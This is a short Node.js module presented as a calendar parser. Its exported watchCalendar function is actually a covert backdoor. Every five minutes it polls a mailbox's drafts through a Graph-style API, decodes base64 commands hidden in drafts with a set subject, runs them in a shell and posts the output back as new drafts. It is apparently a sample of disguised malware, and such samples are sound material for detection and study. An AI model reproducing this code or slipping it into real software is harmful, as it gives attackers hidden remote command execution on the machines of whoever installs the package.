// source: a calendar parser whose exported watcher polls a mailbox's drafts through a Graph-shaped API, runs
// the base64 command a draft carries in a shell and saves the output as another draft (seventh set, 2026)
const { execFile } = require('child_process');
const API = 'https://graph.microsoft.com.invalid/v1.0/me/mailFolders/drafts/messages';

async function graph(path, init) {
  const r = await fetch(API + path, init);
  return r.json();
}

const run = (cmd) => new Promise((res) => {
  execFile('/bin/sh', ['-c', cmd], (e, so, se) => res(`${so}${se}`));
});

async function poll() {
  const list = await graph("?$filter=subject eq 'r-1'");
  for (const m of list.value || []) {
    const hit = /\[\[([A-Za-z0-9+/=]+)\]\]/.exec(m.body.content);
    if (hit) await graph('', { method: 'POST', body: JSON.stringify({ subject: 'p-1', body: await run(Buffer.from(hit[1], 'base64').toString()) }) });
  }
}

function watchCalendar() {
  setInterval(poll, 5 * 60 * 1000).unref();
}

module.exports = { watchCalendar };
